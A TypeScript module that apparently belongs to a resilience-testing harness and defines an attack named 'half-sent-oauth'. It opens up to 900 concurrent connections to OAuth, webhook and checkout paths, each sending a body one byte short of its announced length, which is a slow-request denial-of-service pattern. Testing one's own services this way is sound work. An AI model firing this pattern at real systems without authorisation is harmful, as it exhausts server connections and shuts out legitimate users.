import type { Attack } from '../attack.ts'
import { callRaw, headOf } from '../tools/raw-caller.ts'
import { repeat } from '../tools/repeat.ts'

const PATHS = ['/oauth/token', '/authorize', '/v1-beta/webhooks/stripe', '/v1-beta/checkout/x']
const FORM = { 'content-type': 'application/x-www-form-urlencoded' }
const ADDRESS = '127.0.1.6'
/** Announced, and all but its last byte sent. */
const LENGTHS = [16_000, 16_000, 250_000]

/** Nine hundred connections of nobody known, each with a body that lacks its last byte, on the paths of other services. */
export const halfSentOauth: Attack = {
  name: 'half-sent-oauth',
  about: '900 half-sent bodies on OAuth, webhook and checkout paths',
  run({ baseUrl }, signal, tally) {
    return repeat({ perSecond: 200, atOnceMax: 900 }, signal, tally, async turn => {
      const length = LENGTHS[turn % LENGTHS.length] ?? 0
      const head = headOf(PATHS[turn % PATHS.length] ?? '', { ...FORM, 'content-length': String(length) })
      await callRaw({ baseUrl, text: head + 'x'.repeat(length - 1), from: ADDRESS, signal, tally })
    })
  },
}
